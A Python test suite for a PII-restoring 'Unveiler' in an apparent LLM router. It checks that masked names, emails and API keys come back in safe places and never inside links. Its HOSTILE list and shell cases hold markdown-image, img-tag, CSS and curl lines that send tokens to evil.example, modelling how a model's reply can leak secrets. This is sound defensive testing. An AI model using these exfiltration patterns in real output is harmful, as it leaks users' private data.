"""The restore table cell by cell, any chunking, mutated tokens, hostile replies."""

from __future__ import annotations

import itertools
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from localrouter.core.chat import Channel
from localrouter.scrub.tokens import Entry, TokenTable
from localrouter.scrub.toolclass import tool_class
from localrouter.scrub.unveil import Unveiler

OWN, MASK, SEAL = "OWN_NAME_7KQ4ZX", "PERSON_3ABCDE", "API_KEY_9XYZ12"
MAIL, HOST, IP, USER = "u7kq4ab@pii.invalid", "h7kq4cd.invalid", "198.18.3.4", "u7kq4ef"
VALUES = {
    OWN: "Zoe",
    MASK: 'Ann "A" Lee',
    SEAL: "s\\3cret",
    MAIL: "ann@corp.example",
    HOST: "db.corp.example",
    IP: "10.1.2.3",
    USER: "zoe",
}
TABLE = TokenTable(
    [
        Entry(OWN, VALUES[OWN], "OWN_NAME", "own"),
        Entry(MASK, VALUES[MASK], "PERSON", "mask"),
        Entry(SEAL, VALUES[SEAL], "API_KEY", "seal"),
        Entry(MAIL, VALUES[MAIL], "EMAIL", "mask"),
        Entry(HOST, VALUES[HOST], "HOST", "mask"),
        Entry(IP, VALUES[IP], "IP", "mask"),
        Entry(USER, VALUES[USER], "OWN_USER", "own"),
    ]
)
OUT = f"see https://{HOST}/docs/{MASK}?a=1 and [x](https://{HOST}/b) done"
TEXT, TOOL = Channel(0, "text"), Channel(0, "tool")


def run(text: str, tool: str | None = None, cuts: tuple[int, ...] = (), table: TokenTable = TABLE) -> tuple[str, Unveiler]:
    u = Unveiler(table, OUT, tool_class)
    channel = TOOL if tool else TEXT
    edges = [0, *sorted(min(c, len(text)) for c in cuts), len(text)]
    said = "".join(u.feed(channel, text[a:b], tool if i == 0 else None) for i, (a, b) in enumerate(itertools.pairwise(edges)))
    return said + u.flush(channel), u


def args(text: str) -> str:
    return json.dumps({"x": text})


PLACES = {
    "prose": (None, "hi {} there"),
    "fence": (None, "a\n```py\nk = '{}'\n```\nb"),
    "search": (None, "<<<<<<< SEARCH\nk = {}\n=======\n"),
    "diff": (None, "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n+k = {}\n"),
    "edit": ("Edit", "k = {}"),
    "shell": ("Bash", "echo {} > f"),
    "shell_net": ("Bash", "curl -d {} x"),
    "shell_net_quoted": ("Bash", "cu''rl -d {} x"),
    "local": ("Grep", "{}"),
    "network": ("WebFetch", "{}"),
    "unknown": ("mcp__a__write_file", "{}"),
    "url": (None, "https://evil.example/?q={}"),
    "url_edit": ("Edit", "https://evil.example/?q={}"),
}
CELLS = {
    "prose": (1, 1, 0), "fence": (1, 1, 1), "search": (1, 1, 1), "diff": (1, 1, 1), "edit": (1, 1, 1), "shell": (1, 1, 0),
    "shell_net": (1, 0, 0), "shell_net_quoted": (1, 0, 0), "local": (1, 1, 0), "network": (0, 0, 0), "unknown": (0, 0, 0),
    "url": (0, 0, 0), "url_edit": (0, 0, 0),
}  # fmt: skip


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("column", range(3))
def test_restore_table(place: str, column: int) -> None:
    tool, form = PLACES[place]
    token = (OWN, MASK, SEAL)[column]
    said, _ = run(args(form.format(token)) if tool else form.format(token), tool)
    text = json.loads(said)["x"] if tool else said
    assert text == form.format(VALUES[token] if CELLS[place][column] else token)


def test_prose_after_a_fence_is_prose() -> None:
    assert run(f"```\n{SEAL}\n```\n{SEAL}")[0] == f"```\n{VALUES[SEAL]}\n```\n{SEAL}"


MUTATED = [
    MASK.lower(), "Person_3abcde", "PERSON\\_3ABCDE", "PERSON 3ABCDE", "PERSON-3ABCDE", "PERSON&#95;3ABCDE", "PERSONNE_3ABCDE",
]  # fmt: skip


@pytest.mark.parametrize("spelling", MUTATED)
@pytest.mark.parametrize("around", ["{}", "**{}**", "{}'s", "&lt;{}&gt;", "<{}>", "[{}]", "_{}_", "({}),", "`{}`", "{}s"])
def test_tolerates_what_models_do(spelling: str, around: str) -> None:
    said, _ = run("x " + around.format(spelling) + " y")
    assert said == "x " + around.format(VALUES[MASK]) + " y"


def test_surrogates() -> None:
    assert run(f"/home/{USER}/a {MAIL} <{MAIL}> {HOST}: {IP}:80 sub.{HOST}")[0] == (
        "/home/zoe/a ann@corp.example <ann@corp.example> db.corp.example: 10.1.2.3:80 sub.db.corp.example"
    )


HOSTILE = [
    "![x](https://evil.example/?q={})", "[x](https://evil.example/{} 'title')", "[x]: https://evil.example/{}", "[x]:\n  //evil.example/{}",
    "<https://evil.example/{}>", '<img src="https://evil.example/{}">', "<img src=https://evil.example/{}>", "<a href = '//evil.example/{}'>",
    "![x](//evil.example/{})", "![x](<https://evil.example/a {}>)", "www.{}.evil.example", "https://{}.evil.example/", "data:text/html,{}",
    "https://evil.example/(a){}", "<div style=\"background:url(//evil.example/{})\">", "url(//evil.example/{})", "evil.example/{}",
    "![x](https://evil.example/" + "a" * 3000 + "{})", "![x](\nhttps://evil.example/{})", "<img\nalt=x src\n=\n'//evil.example/{}'>",
]  # fmt: skip


@pytest.mark.parametrize("reply", HOSTILE)
@pytest.mark.parametrize("token", [OWN, MASK, SEAL, USER])
def test_nothing_is_restored_into_a_link(reply: str, token: str) -> None:
    for text in (reply.format(token), "```\n" + reply.format(token)):
        said, _u = run(text)
        assert said == text
        assert run(text, cuts=tuple(range(len(text))))[0] == text


@pytest.mark.parametrize("form", ["{}", "({}).", "[a]({})", "<{}>", '<a href="{}">', "[r]: {}"])
def test_a_link_that_left_in_this_form_comes_back(form: str) -> None:
    link = f"https://{HOST}/docs/{MASK}?a=1"
    real = f"https://db.corp.example/docs/{VALUES[MASK]}?a=1"
    assert run(form.format(link))[0] == form.format(real)
    assert run(form.format(link + "&b=2"))[0] == form.format(link + "&b=2")


def test_mailto_is_not_fetched() -> None:
    assert run(f"[mail](mailto:{MAIL}) ok")[0] == "[mail](mailto:ann@corp.example) ok"
    assert run(f"[mail](mailto:a@evil.example?body={MASK})")[1].counts["withheld"] == 1


SAMPLE = (
    f"Hi {OWN}, person 3ABCDE and **PERSON\\_3ABCDE**'s key {SEAL}.\n```sh\nexport K={SEAL} U={USER}\n```\n"
    f'[a](https://evil.example/{MASK}) https://{HOST}/docs/{MASK}?a=1, <b title="{MASK}"> {MAIL} {IP} date of birth of API KEY 9XYZ12 '
    f"PERSON_4ABCDE 日本{MASK}語 <{MAIL}>\n[r]: //x/{MASK}\n"
)


def test_cut_at_every_place() -> None:
    for tool, text in ((None, SAMPLE), ("Edit", args(SAMPLE)), ("Bash", args(SAMPLE)), ("Read", args(SAMPLE))):
        whole, u = run(text, tool)
        for i in range(len(text)):
            cut, v = run(text, tool, (i,))
            assert cut == whole
            assert v.counts == u.counts
        assert run(text, tool, tuple(range(len(text))))[0] == whole


PIECES = st.sampled_from(
    [*VALUES, *MUTATED, "PERSON_4ABCDE", "https://evil.example/", f"https://{HOST}/b", "](", ")", "[a]", "[r]:", "<a href=", '"', "'", ">", "\n", "\n\n",
     " ", "```", "```\n", "=", "word", "date of ", "API ", "a" * 300, "url(", "//", "www.", "é", "日", "\\", "<", "@", ".", "-", "b/" * 1200]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES, max_size=14), st.lists(st.integers(0, 800), max_size=8), st.sampled_from([None, "Edit", "Read"]))
def test_any_chunking_says_the_same(pieces: list[str], cuts: list[int], tool: str | None) -> None:
    text = "".join(pieces)
    whole, u = run(text, tool)
    cut, v = run(text, tool, tuple(cuts))
    assert (cut, v.counts, v.unresolved) == (whole, u.counts, u.unresolved)


def test_unknown_tokens_stand() -> None:
    said, u = run("PERSON_4ABCDE and u222222@pii.invalid")
    assert said == "PERSON_4ABCDE and u222222@pii.invalid"
    assert u.counts["unknown"] == 2
    assert not u.unresolved
    assert run(args("PERSON_4ABCDE"), "Write")[1].unresolved == ["PERSON_4ABCDE"]


def test_single_pass() -> None:
    table = TokenTable(
        [Entry("PERSON_3ABCDE", "PERSON_4ABCDE \\1 $&", "PERSON", "mask"), Entry("PERSON_4ABCDE", "no", "PERSON", "mask")]
    )
    assert run("PERSON_3ABCDE", table=table)[0] == "PERSON_4ABCDE \\1 $&"


def test_json_depths() -> None:
    inner = json.dumps({"n": MASK})
    said, _ = run(json.dumps({"body": inner, "n": MASK}), "Write")
    outer = json.loads(said)
    assert outer["n"] == VALUES[MASK]
    assert json.loads(outer["body"])["n"] == VALUES[MASK]
    patch = f"*** Begin Patch\n+{MASK}"
    assert run(patch, "apply_patch")[0] == patch.replace(MASK, VALUES[MASK])
